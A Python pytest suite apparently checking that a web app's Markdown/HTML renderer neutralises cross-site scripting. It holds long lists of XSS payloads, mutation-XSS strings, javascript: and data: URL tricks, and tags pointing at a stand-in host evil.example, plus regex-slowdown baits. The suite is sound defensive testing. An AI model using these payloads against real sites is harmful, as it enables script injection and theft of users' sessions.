"""What attackers write is shown as they wrote it, and does nothing."""

import re
import unicodedata
from collections.abc import Callable
from functools import partial
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.text import (
    Hidden,
    Mark,
    clean,
    diff,
    direction,
    excerpt,
    fold,
    isolate,
    line,
    plain,
    quote_hash,
    redacted,
    render,
    render_sentences,
    safe,
    slug,
    visible,
    words,
)
from tests.counting import cpu_seconds

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "<a href='javas&#99;ript:alert(1)'>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>x",
    "<base href=//evil.example>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "`><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7*7 }}{% raw %}${7*7}",
    "```<script>alert(1)</script>```",
    '```"onmouseover=alert(1)\nx\n```',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "- <svg onload=alert(1)>",
    "> <svg onload=alert(1)>",
    '[x](https://a.example/"onmouseover=alert(1))',
    "[x](<https://a.example/ onmouseover=alert(1)>)",
    '!["onerror=alert(1)](https://a.example/x)',
    "[x](https://a.example '\"><script>alert(1)</script>')",
    '<https://a.example/"onclick=alert(1)>',
]  # fmt: skip
SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)", "javascript&colon;alert(1)", " javascript:alert(1)",
    "\x01javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=", "file:///etc/passwd", "blob:https://a.example/x",
    "//evil.example/x", "/sign-out", "\\\\evil.example\\x", "view-source:javascript:alert(1)",
    "%6aavascript:alert(1)", "ftp://evil.example/", "feed:javascript:alert(1)", "jar:https://a.example",
]  # fmt: skip
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=a()&gt;'>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>',
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<svg><title><style><!--</style><img src=x onerror=alert(1)>--></title></svg>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "<table><tr><td><svg><desc><table><tr><td><style><!--</style><img src onerror=alert(1)>",
    "<select><template><style></select><img src=x onerror=alert(1)></style>",
    '<p><mark title="&lt;img src=x onerror=alert(1)&gt;">x</mark>',
    '<a href="javascript&#x3a;alert(1)">x</a><a href=" java\nscript:alert(1)">y</a>',
    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>",
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    "<p><plaintext><img src onerror=alert(1)>",
]  # fmt: skip
BLOCKS = ["p", "li", "h1", "h2", "h3", "h4", "h5", "h6", "td", "th", "pre"]
GLUE = ["[", "](", ")", "<", ">", "*", "`", "\n", "|", "  "]
ALLOWED = {
    "a": {"href", "rel"}, "mark": {"id", "class", "title", "data-mark"}, "ol": {"start"},
    "span": {"class", "data-length"}, "blockquote": set(), "br": set(), "code": set(), "em": set(),
    "hr": set(), "s": set(), "strong": set(), "table": set(), "tbody": set(), "thead": set(),
    "tr": set(), "ul": set(),
    **{tag: {"dir", "data-at"} for tag in BLOCKS},
}  # fmt: skip


class Strict(HTMLParser):
    """Fails on an element, attribute or address that we do not send."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED
        for name, value in attrs:
            assert name in ALLOWED[tag]
            if name == "href":
                assert re.match(r"(?:https?|mailto):", value or "")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


def assert_harmless(html: str) -> None:
    parser = Strict()
    parser.feed(html)
    parser.close()
    assert safe(html) == html


@pytest.mark.parametrize("attack", SCRIPTS)
def test_b01_a_script_is_shown_as_it_was_written(attack: str) -> None:
    for source in (attack, f"words {attack} words", f"**{attack}**", f"- {attack}\n  - {attack}"):
        assert_harmless(render(source))
        assert_harmless(render(source, hidden=[Hidden(0, 3, attack)], removed=attack))
        assert_harmless(render(source, marks=[Mark(0, 5, attack, attack, attack)], anchors=True))
        for sentence in render_sentences(source, [(0, 9), (9, 99)], marks=[Mark(1, 4, attack)]):
            assert_harmless(sentence.html)


@pytest.mark.parametrize("address", SCHEMES)
def test_b02_only_web_and_mail_addresses_become_links(address: str) -> None:
    for source in (
        f"[x]({address})", f"[x](<{address}>)", f"<{address}>", f"![x]({address})",
        f"[x][r]\n\n[r]: {address}", f"[x]({address} 'title')",
    ):  # fmt: skip
        shown = render(source)
        assert_harmless(shown)
        assert "href" not in shown


def test_b02_a_link_to_elsewhere_gives_nothing_away_and_no_credit() -> None:
    assert render("[x](https://example.org/?a=1&b=2)") == (
        '<p dir="auto"><a href="https://example.org/?a=1&amp;b=2" rel="nofollow ugc noopener">x</a>'
        "</p>\n"
    )


@pytest.mark.parametrize("attack", MUTATIONS + SCRIPTS)
def test_b03_cleaning_twice_changes_nothing_more(attack: str) -> None:
    once = safe(attack)
    assert safe(once) == once
    assert_harmless(once)
    assert_harmless(render(attack))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*SCRIPTS, *MUTATIONS, *SCHEMES, *GLUE]), max_size=8))
def test_b03_no_mixture_gets_through(bits: list[str]) -> None:
    assert_harmless(render("".join(bits)))


BAITS = [
    "a" * 50_000 + "!", "(" * 50_000, "[" * 50_000, "<" * 50_000, " " * 50_000, "\n" * 50_000,
    "a." * 25_000, "a'" * 25_000, "*a" * 25_000, "`" * 50_000, "|" * 50_000, "&" * 50_000,
    "\\" * 50_000, "![" * 25_000, "1. " * 16_000, "> " * 25_000, "~~" * 25_000, "_a_" * 16_000,
]  # fmt: skip
READERS: list[Callable[[str], object]] = [
    clean, line, isolate, plain, render, words, fold, slug, safe, direction, quote_hash,
    lambda s: diff(s, s[::-1] + "x"),
    lambda s: excerpt(s, (20_000, 30_000)),
    lambda s: visible(s, [Hidden(5, 20, "x")]),
    lambda s: redacted(s, [Hidden(5, 20, "x")]),
]  # fmt: skip


@pytest.mark.parametrize("bait", BAITS, ids=lambda bait: repr(bait[:4]))
def test_b15_no_run_of_characters_makes_a_reader_slow(bait: str) -> None:
    for reader in READERS:
        assert cpu_seconds(partial(reader, bait), enough=0.25) < 0.25


ODD = [
    "a\x00b", "a\ud800b", "\udfffx", "\u202eevil\u202c", "a\u200bb", "\ufeffx", "\uffff", "e\u0301",
    "\U0010ffff", "👩‍👩‍👧‍👦", "\x1b[31m", "\r\n\r", "\u2028", "\x85", "ﷺ", "ǅ", "İ", "ß", "\u0600",
]  # fmt: skip


@pytest.mark.parametrize("text", ODD)
def test_b17_odd_characters_are_no_error_anywhere(text: str) -> None:
    for reader in READERS:
        reader(text)
    assert_harmless(render(text))
    clean(text).encode("utf-8")


def test_b17_clean_keeps_what_can_be_seen_and_drops_what_cannot_be_stored() -> None:
    assert clean("a\x00b\ud800c\r\nd\re\u2028f\te\u0301\u202e") == "abc\nd\ne\nf\t\u00e9\u202e"


@given(st.text())
def test_b17_clean_text_is_nfc_and_stays_as_it_is(text: str) -> None:
    once = clean(text)
    assert clean(once) == once
    assert unicodedata.is_normalized("NFC", once)


def test_b17_a_direction_override_ends_with_its_paragraph_and_its_name() -> None:
    assert render("\u202eabc\n\ndef").count('dir="auto"') == 2
    assert isolate("\u202eabc\u2069d") == "\u2068abcd\u2069"
